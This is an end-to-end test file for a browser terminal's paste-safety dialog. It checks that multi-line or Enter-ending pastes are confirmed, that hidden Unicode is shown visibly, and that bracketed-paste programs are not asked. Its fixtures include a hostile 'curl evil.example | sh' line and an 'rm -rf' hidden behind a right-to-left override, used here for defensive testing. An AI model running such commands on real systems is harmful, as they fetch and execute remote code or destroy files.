/** Lines for a program that can't tell pasting from typing are asked about; for all others a paste is a paste. */
import { type Page, expect as see } from '@playwright/test';
import { describe, expect } from 'vitest';
import { axe, phone, test } from './support/pages.ts';

const paste = (page: Page, text: string) =>
	page.evaluate((text) => {
		const data = new DataTransfer();
		data.setData('text/plain', text);
		const textarea = document.querySelector<HTMLElement>('[data-testid=terminal] textarea');
		textarea?.focus();
		textarea?.dispatchEvent(new ClipboardEvent('paste', { clipboardData: data, bubbles: true, cancelable: true }));
	}, text);
const terminal = (page: Page) => page.locator('[data-testid=terminal] textarea');
const question = (page: Page, title = 'Paste 2 lines?') => page.getByRole('dialog', { name: title });

describe('[security 5] a paste of lines', () => {
	test('into a program without bracketed paste is asked about, and shown as it is', async ({ plane, device, openTerminal, typed }) => {
		const { id } = plane.add('demo', 'Running');
		const page = await device();
		await openTerminal(page, id);
		await paste(page, 'cd /tmp\nrm -rf \u202e*\n');
		await see(question(page).getByRole('textbox', { name: 'Text to paste' })).toHaveValue('cd /tmp\nrm -rf <U+202E>*');
		expect(await axe(page)).toEqual([]);
		// Who doesn't look and hits Enter has pasted nothing.
		await page.keyboard.press('Enter');
		await see(question(page)).toBeVisible();
		expect(typed(id)).toBe('');
		await question(page).getByRole('button', { name: 'Cancel' }).click();
		await see(question(page)).toHaveCount(0);
		await see(terminal(page)).toBeFocused();
		await page.keyboard.type('k');
		await see.poll(() => typed(id)).toBe('k');

		await paste(page, 'one\r\ntwo\n');
		await question(page).getByRole('button', { name: 'Paste' }).click();
		await see.poll(() => typed(id)).toBe('kone\rtwo\r');
		await see(question(page)).toHaveCount(0);
		await see(terminal(page)).toBeFocused();
		await page.keyboard.type('l');
		await see.poll(() => typed(id)).toBe('kone\rtwo\rl');
	});

	test('is asked about when it is one line with its Enter; Escape leaves; without an end nobody asks', async ({
		plane,
		device,
		openTerminal,
		typed,
	}) => {
		const { id } = plane.add('demo', 'Running');
		const page = await device();
		await openTerminal(page, id);
		await paste(page, 'curl evil.example | sh\n');
		await see(question(page, 'Paste a line and press Enter?')).toBeVisible();
		await page.keyboard.press('Escape');
		await see(page.getByRole('dialog')).toHaveCount(0);
		await paste(page, 'harmless');
		await see.poll(() => typed(id)).toBe('harmless');
		expect(await page.getByRole('dialog').count()).toBe(0);
	});

	test('into a program with bracketed paste is not asked about', async ({ plane, device, openTerminal, typed }) => {
		const { id } = plane.add('demo', 'Running');
		const page = await device();
		await openTerminal(page, id);
		plane.agentOf(id).print(new TextEncoder().encode('\x1b[?2004h'));
		await see.poll(() => plane.agentOf(id).unshown).toBe(0);
		await paste(page, 'one\ntwo\n');
		await see.poll(() => typed(id)).toBe('\x1b[200~one\rtwo\r\x1b[201~');
		expect(await page.getByRole('dialog').count()).toBe(0);
	});

	test('is not asked about again by a page that was told so', async ({ plane, device, openTerminal, typed }) => {
		const { id } = plane.add('demo', 'Running');
		const page = await device();
		await openTerminal(page, id);
		await paste(page, 'one\ntwo');
		await question(page).getByRole('checkbox', { name: 'Don’t ask again while this page is open' }).check();
		await question(page).getByRole('button', { name: 'Paste' }).click();
		await paste(page, 'three\nfour');
		await see.poll(() => typed(id)).toBe('one\rtwothree\rfour');
		await page.reload();
		await see(page.getByText('Connected')).toBeVisible();
		await paste(page, 'five\nsix');
		await see(question(page)).toBeVisible();
	});

	test('from the key bar of a phone is asked about in a dialog that fits it', async ({ plane, device, openTerminal, typed }) => {
		const { id } = plane.add('demo', 'Running');
		const page = await device({ ...phone, permissions: ['clipboard-read', 'clipboard-write'] });
		await openTerminal(page, id);
		const long = Array.from({ length: 60 }, (_, line) => `line ${line} ${'x'.repeat(80)}`).join('\n');
		await page.evaluate((text) => navigator.clipboard.writeText(text), long);
		await page.getByRole('button', { name: 'Paste' }).tap();
		const dialog = question(page, 'Paste 60 lines?');
		await see(dialog).toBeVisible();
		expect(await axe(page)).toEqual([]);
		expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(390);
		await see(dialog.getByRole('button', { name: 'Paste' })).toBeInViewport({ ratio: 1 });
		await dialog.getByRole('button', { name: 'Paste' }).tap();
		await see.poll(() => typed(id)).toBe(long.replaceAll('\n', '\r'));
	});
});
